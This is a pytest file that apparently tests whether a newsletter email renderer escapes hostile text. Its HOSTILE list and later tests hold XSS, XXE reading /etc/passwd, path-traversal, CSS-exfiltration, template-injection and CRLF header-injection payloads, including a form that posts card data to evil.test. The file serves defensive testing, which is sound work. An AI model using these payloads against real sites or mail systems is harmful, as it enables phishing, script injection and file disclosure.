"""What hostile content may try, and that it comes out as the text it is."""

from __future__ import annotations

from dataclasses import replace
from types import ModuleType

import jinja2
import pytest

from newsletter.comparisons.model import Pricing, Review, Tool, Verdict
from newsletter.errors import InputError
from newsletter.issues import IssueContent
from newsletter.rendering.lint import lint_mail
from newsletter.rendering.markup import read_html
from newsletter.rendering.mjml import RenderedMail, render_issue, render_notice, split_mail
from newsletter.selection import Section

HOSTILE = [
    "</mj-text><mj-raw><form action='https://evil.test'><input name='card'/></form></mj-raw><mj-text>",
    "</mj-title></title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![endif]--><script>alert(1)</script><!--[if mso]>",
    "]]><script>alert(1)</script><![CDATA[",
    '" onload="alert(1)',
    "' onload='alert(1)",
    'a\\" onload=\\"alert(1)',
    "<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<mj-include path='../../etc/passwd'/>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "red;background:url(https://evil.test/x)",
    "x\x00\x01\x0b\u202e\ud800\ufffe",
    "{{ 7*7 }}{% raw %}",
]


def everywhere(week: ModuleType, evil: str) -> IssueContent:
    """An issue that says `evil` in every text of it."""
    reviews = (Review(evil, 80, Verdict.SHIP, f"{evil} and a sentence that is long enough to be quoted."),)
    side = Tool(
        name=f"Tool {evil}",
        slug="tool",
        category=evil,
        tagline=evil,
        pricing=Pricing(evil, f"From {evil}"),
        best_for=f"Best {evil}",
        panel=week.KESTREL.panel,
        reviews=reviews,
    )
    items = [
        week.item(side, week.KESTREL, section, [("tool", evil or "Skip"), ("kestrel", evil)]) for section in Section
    ]
    items = [replace(item, url="https://verdicts.example.org/x") for item in items]
    subject = "".join(character for character in evil if character.isprintable()) or "Subject"
    content: IssueContent = week.content(*items, subject=subject, preheader=evil, intro=f"{evil}\n\n{evil}")
    return content


def rendered(environment: jinja2.Environment, week: ModuleType, evil: str) -> RenderedMail:
    publication = replace(week.PUBLICATION, name=f"News {evil}", postal_address=f"{evil}\nTown", about_panel=evil)
    return render_issue(environment, publication, everywhere(week, evil), week.NONCE, test_code="ABCDEF")


@pytest.mark.parametrize("evil", HOSTILE)
def test_hostile_text_adds_no_element_and_no_attribute(
    environment: jinja2.Environment, week: ModuleType, evil: str
) -> None:
    def shape(words: str) -> tuple[int, list[tuple[str, list[str]]]]:
        html = rendered(environment, week, words).html
        return html.count("<!--"), [(one.tag, sorted(one.attributes)) for one in read_html(html).walk()]

    assert shape(evil) in (shape("word"), shape("word" * 9))  # a long word stacks the scorecard


@pytest.mark.parametrize("evil", HOSTILE[:10])
def test_hostile_text_reads_as_it_was_written(environment: jinja2.Environment, week: ModuleType, evil: str) -> None:
    root = read_html(rendered(environment, week, evil).html)
    assert " ".join(evil.split()) in root.text
    title = next(one for one in root.walk() if one.tag == "title")
    assert title.own_text == f"[Test] {evil}"


@pytest.mark.parametrize("evil", HOSTILE[:10])
def test_hostile_text_passes_the_lint_or_is_named_by_it(
    environment: jinja2.Environment, week: ModuleType, evil: str
) -> None:
    publication = replace(week.PUBLICATION, name=f"News {evil}", postal_address=f"{evil}\nTown", about_panel=evil)
    findings = lint_mail(
        rendered(environment, week, evil),
        nonce=week.NONCE,
        publication=publication,
        allow_loopback=False,
        headers=week.SLOT_HEADERS,
    )
    assert {finding.rule for finding in findings} <= {8}  # the preheader has a length of its own


@pytest.mark.parametrize("url", ["javascript:alert(1)", "https://a@evil.test/", "https://evil.test\\@good.test/", "x"])
def test_a_button_never_leads_to_anything_but_the_web(
    environment: jinja2.Environment, week: ModuleType, url: str
) -> None:
    item = replace(week.item(week.PLUMBLINE, week.KESTREL), url=url)
    with pytest.raises(InputError, match="cannot be the address"):
        render_issue(environment, week.PUBLICATION, week.content(item), week.NONCE)
    with pytest.raises(InputError, match="cannot be the address"):
        render_notice(environment, week.PUBLICATION, subject="S", heading="H", paragraphs=[], button=("Open it", url))


def test_an_address_cannot_break_out_of_its_attribute(environment: jinja2.Environment, week: ModuleType) -> None:
    url = "https://verdicts.example.org/?a='&b={{x}}&c=%recipient.id%&d=é"
    item = replace(week.item(week.PLUMBLINE, week.KESTREL), url=url)
    mail = render_issue(environment, week.PUBLICATION, week.content(item), week.NONCE)
    hrefs = [one.attributes["href"] for one in read_html(mail.html).walk() if one.tag == "a"]
    shown = "https://verdicts.example.org/?a='&b=%7B%7Bx%7D%7D&c=%25recipient.id%25&d=é"
    assert shown in hrefs
    assert shown in mail.text


def test_a_slot_of_another_nonce_stays_the_text_it_is(environment: jinja2.Environment, week: ModuleType) -> None:
    evil = "https://evil.test/?s=__nldeadbeef_unsubscribe_url__"
    mail = rendered(environment, week, evil)
    values = {**dict.fromkeys(mail.slots, ""), "unsubscribe_url": "SECRET"}
    html, text = (part.fill(values) for part in split_mail(mail, week.NONCE))
    assert html.count("SECRET") == text.count("SECRET") == 1
    assert f"{evil[:20]}" in text
    assert "s=SECRET" not in html + text


def test_a_slot_without_a_nonce_stays_the_text_it_is(environment: jinja2.Environment, week: ModuleType) -> None:
    html, text = split_mail(rendered(environment, week, "__nl_unsubscribe_url__"), week.NONCE)
    assert html.slots.count("unsubscribe_url") == text.slots.count("unsubscribe_url") == 1


def test_content_that_knows_this_issues_nonce_is_refused(environment: jinja2.Environment, week: ModuleType) -> None:
    with pytest.raises(InputError, match="slot token"):
        rendered(environment, week, f"https://evil.test/?s=__nl{week.NONCE}_unsubscribe_url__")


@pytest.mark.parametrize(
    "placeholder",
    ["{{name}}", "{{{name}}}", "%recipient.name%", "{% if x %}", "<%name%>", "{{#each x}}", "100%unsubscribe_url%"],
)
def test_no_placeholder_of_a_provider_reaches_it(
    environment: jinja2.Environment, week: ModuleType, placeholder: str
) -> None:
    mail = rendered(environment, week, placeholder)
    for part in (mail.html[mail.html.index("<body") :], mail.text, mail.subject):
        for sign in ("{{", "}}", "{%", "%}", "<%", "%>", "%recipient.name%", "%unsubscribe_url%"):
            assert sign not in part


def test_a_subject_cannot_carry_a_second_header(environment: jinja2.Environment, week: ModuleType) -> None:
    content = week.content(*week.full_week(), subject="Hello\r\nBcc: all@example.org")
    with pytest.raises(InputError, match="control character"):
        render_issue(environment, week.PUBLICATION, content, week.NONCE)


def test_ten_thousand_nested_tags_are_only_text(environment: jinja2.Environment, week: ModuleType) -> None:
    deep = replace(week.KESTREL, tagline="<div>" * 10_000)
    mail = render_issue(environment, week.PUBLICATION, week.content(week.item(deep, week.PLUMBLINE)), week.NONCE)
    assert mail.html.count("<div>") == 0
    findings = lint_mail(
        mail, nonce=week.NONCE, publication=week.PUBLICATION, allow_loopback=False, headers=week.SLOT_HEADERS
    )
    assert [finding.rule for finding in findings] == [6]


def test_content_never_reaches_a_style(environment: jinja2.Environment, week: ModuleType) -> None:
    mail = rendered(environment, week, "red;background:url(https://evil.test/x)")
    for element in read_html(mail.html).walk():
        assert "evil" not in element.attributes.get("style", "")
        assert element.tag != "style" or "evil" not in element.own_text
